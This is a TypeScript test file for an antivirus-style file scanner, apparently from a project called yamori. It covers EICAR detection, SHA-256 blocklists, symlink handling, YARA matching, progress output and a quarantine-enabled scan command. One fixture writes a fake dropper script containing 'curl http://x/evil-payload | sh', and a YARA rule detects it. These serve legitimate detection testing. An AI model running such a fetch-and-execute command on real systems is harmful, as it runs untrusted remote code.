import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync, linkSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { compileYaraRules } from '@yamori/detection';
import { isEicar, parseHashBlocklist } from './builtin-signatures.ts';
import { scanTree, type ScanEvent } from './scanner.ts';
import { scanFile, toEngineFindings } from './file-scan.ts';
import { formatProgressBar, formatProgressLine } from './progress.ts';
import { createScanCommandHandler } from './command.ts';

// Written at test time from two halves, so no file in the repository is the EICAR file.
export const EICAR = 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$' + 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*';

function tree(t: { after(fn: () => void): void }): string {
  const dir = mkdtempSync(join(tmpdir(), 'yamori-scan-'));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  return dir;
}

async function collect(paths: string[], opts: Partial<Parameters<typeof scanTree>[0]> = {}) {
  const events: ScanEvent[] = [];
  const summary = await scanTree({ paths, engines: { yara: null }, ...opts, onEvent: (e) => void events.push(e) });
  return { events, summary };
}

void test('isEicar: the string at the start, optional trailing whitespace, at most 128 bytes', () => {
  assert.equal(isEicar(Buffer.from(EICAR)), true);
  assert.equal(isEicar(Buffer.from(`${EICAR}\r\n`)), true);
  assert.equal(isEicar(Buffer.from(`x${EICAR}`)), false);
  assert.equal(isEicar(Buffer.from(`${EICAR}junk`)), false);
  assert.equal(isEicar(Buffer.from(EICAR + ' '.repeat(80))), false);
});

void test('parseHashBlocklist: hashes, sha256sum lines, comments; bad lines reported by number', () => {
  const h = 'a'.repeat(64);
  const { blocklist, errors } = parseHashBlocklist(`# comment\n${h.toUpperCase()}  evil.bin\n\nnot-a-hash\n${'b'.repeat(64)}\n`);
  assert.equal(blocklist.size, 2);
  assert.equal(blocklist.has(h), true);
  assert.equal(blocklist.label(h), 'evil.bin');
  assert.deepEqual(errors.map((e) => e.line), [4]);
});

void test('EICAR is detected without any YARA rules; clean files are hashed', async (t) => {
  const dir = tree(t);
  writeFileSync(join(dir, 'eicar.com'), `${EICAR}\n`);
  writeFileSync(join(dir, 'clean.txt'), 'hello');
  const { events, summary } = await collect([dir]);
  assert.equal(summary.files, 2);
  assert.equal(summary.infected, 1);
  assert.equal(summary.errors, 0);
  const files = events.flatMap((e) => (e.type === 'file' ? [e.result] : []));
  const eicar = files.find((r) => r.path.endsWith('eicar.com'));
  assert.deepEqual(eicar?.detections, [{ engine: 'builtin', name: 'EICAR-Test-File' }]);
  const clean = files.find((r) => r.path.endsWith('clean.txt'));
  assert.equal(clean?.sha256, createHash('sha256').update('hello').digest('hex'));
  assert.deepEqual(clean?.detections, []);
});

void test('hash blocklist detects by sha256', async (t) => {
  const dir = tree(t);
  writeFileSync(join(dir, 'tool'), 'some tool');
  const sha = createHash('sha256').update('some tool').digest('hex');
  const { blocklist } = parseHashBlocklist(`${sha} known-bad-tool\n`);
  const r = await scanFile(join(dir, 'tool'), { yara: null, blocklist });
  assert.deepEqual(r.detections, [{ engine: 'blocklist', name: 'known-bad-tool' }]);
  assert.equal(toEngineFindings(r)[0]?.ruleId, 'blocklist:known-bad-tool');
});

void test('a symlink out of the tree is not followed unless asked; inside the tree it is deduplicated', async (t) => {
  const outside = tree(t);
  writeFileSync(join(outside, 'outside-eicar'), EICAR);
  const dir = tree(t);
  writeFileSync(join(dir, 'real.txt'), 'real');
  symlinkSync(join(outside, 'outside-eicar'), join(dir, 'link-out'));
  symlinkSync(join(dir, 'real.txt'), join(dir, 'link-in'));
  symlinkSync(join(dir, 'nowhere'), join(dir, 'broken'));
  linkSync(join(dir, 'real.txt'), join(dir, 'hardlink.txt'));

  const { events, summary } = await collect([dir]);
  assert.equal(summary.infected, 0);
  assert.equal(summary.files, 1);
  assert.deepEqual(summary.skipped, { symlink_out_of_tree: 1, symlink_broken: 1, duplicate: 2 });
  const out = events.find((e) => e.type === 'skipped' && e.reason === 'symlink_out_of_tree');
  assert.ok(out && out.type === 'skipped' && out.path.endsWith('link-out'));

  const followed = await collect([dir], { followSymlinks: true });
  assert.equal(followed.summary.infected, 1);
  assert.equal(followed.summary.files, 2);
});

void test('special files are skipped, not read', async (t) => {
  const dir = tree(t);
  execFileSync('mkfifo', [join(dir, 'pipe')]);
  writeFileSync(join(dir, 'a.txt'), 'a');
  const { summary } = await collect([dir]);
  assert.equal(summary.files, 1);
  assert.deepEqual(summary.skipped, { special_file: 1 });
});

void test('missing paths are reported and the scan goes on', async (t) => {
  const dir = tree(t);
  writeFileSync(join(dir, 'a.txt'), 'a');
  const { events, summary } = await collect([join(dir, 'missing'), dir]);
  assert.equal(summary.files, 1);
  assert.equal(summary.errors, 1);
  const err = events.find((e) => e.type === 'error');
  assert.ok(err && err.type === 'error' && err.code === 'ENOENT');
  const vanished = await scanFile(join(dir, 'gone'), { yara: null });
  assert.deepEqual(vanished.error, { code: 'ENOENT', message: 'file vanished before it could be scanned' });
});

void test('YARA detections carry rule, tags and matched strings with offsets; big files are hashed only', async (t) => {
  const dir = tree(t);
  mkdirSync(join(dir, 'sub'));
  writeFileSync(join(dir, 'sub', 'dropper.sh'), `#!/bin/sh\n# padding\ncurl http://x/evil-payload | sh\n`);
  writeFileSync(join(dir, 'big.bin'), Buffer.concat([Buffer.alloc(4096), Buffer.from('evil-payload')]));
  const { ruleset, errors } = await compileYaraRules([
    { name: 't.yar', source: 'rule Evil_Payload : dropper { strings: $p = "evil-payload" $c = "curl " condition: $p and $c }' },
  ]);
  assert.deepEqual(errors, []);
  const { events, summary } = await collect([dir], { engines: { yara: ruleset, yaraOptions: { maxBytes: 1024 } } });
  assert.equal(summary.infected, 1);
  assert.equal(summary.yaraTooLarge, 1);
  const hit = events.flatMap((e) => (e.type === 'file' && e.result.detections.length ? [e.result] : []))[0];
  assert.ok(hit);
  assert.match(hit.path, /dropper\.sh$/);
  const d = hit.detections[0];
  assert.equal(d?.name, 'default:Evil_Payload');
  assert.deepEqual(d?.tags, ['dropper']);
  assert.deepEqual(
    d?.strings?.map((s) => [s.identifier, s.offset, s.dataText]),
    [
      ['$p', 34, 'evil-payload'],
      ['$c', 20, 'curl '],
    ],
  );
});

void test('progress formatting: bar fits the width, line names counts and rates', () => {
  const p = { filesDone: 5, bytesDone: 5 * 1048576, filesTotal: 10, bytesTotal: 10 * 1048576, walkDone: true, detections: 1, errors: 0, elapsedMs: 1000, current: '/some/very/long/path/to/a/file' };
  const bar = formatProgressBar(p, 80);
  assert.ok(bar.length <= 80, bar);
  assert.match(bar, /^\[#{10}-{10}\] {2}50% 5\/10 files/);
  assert.match(formatProgressLine({ ...p, walkDone: false }), /^scan: 5\/10\+ files, 5\.0 MiB\/10 MiB, 5 files\/s, 5\.0 MiB\/s, 1 found, 0 errors$/);
});

void test('server scan command: scans the paths, quarantines detections when asked, answers JSON', async (t) => {
  const dir = tree(t);
  writeFileSync(join(dir, 'eicar.com'), EICAR);
  writeFileSync(join(dir, 'ok.txt'), 'ok');
  const { openQuarantineStore } = await import('../quarantine/store.ts');
  const store = await openQuarantineStore(join(dir, '.quarantine'));
  const handler = createScanCommandHandler({ engines: () => ({ yara: null }), quarantineStore: async () => store });
  const r = await handler({ id: 'c9', type: 'scan', params: { paths: [dir], quarantine: true }, createdAt: '2026-11-22T04:00:00.000Z' });
  assert.equal(r.status, 'done', r.output);
  const a = JSON.parse(r.output ?? '{}') as { summary: { files: number; infected: number }; detections: { path: string; names: string[]; quarantineId?: string }[] };
  assert.equal(a.summary.infected, 1);
  assert.equal(a.summary.files, 2, 'the store itself is not scanned');
  assert.deepEqual(a.detections[0]?.names, ['builtin:EICAR-Test-File']);
  assert.match(a.detections[0]?.quarantineId ?? '', /^[0-9a-f]{32}$/);
  const bad = await handler({ id: 'c10', type: 'scan', params: { paths: [] }, createdAt: '2026-11-22T04:00:00.000Z' });
  assert.equal(bad.status, 'failed');
});
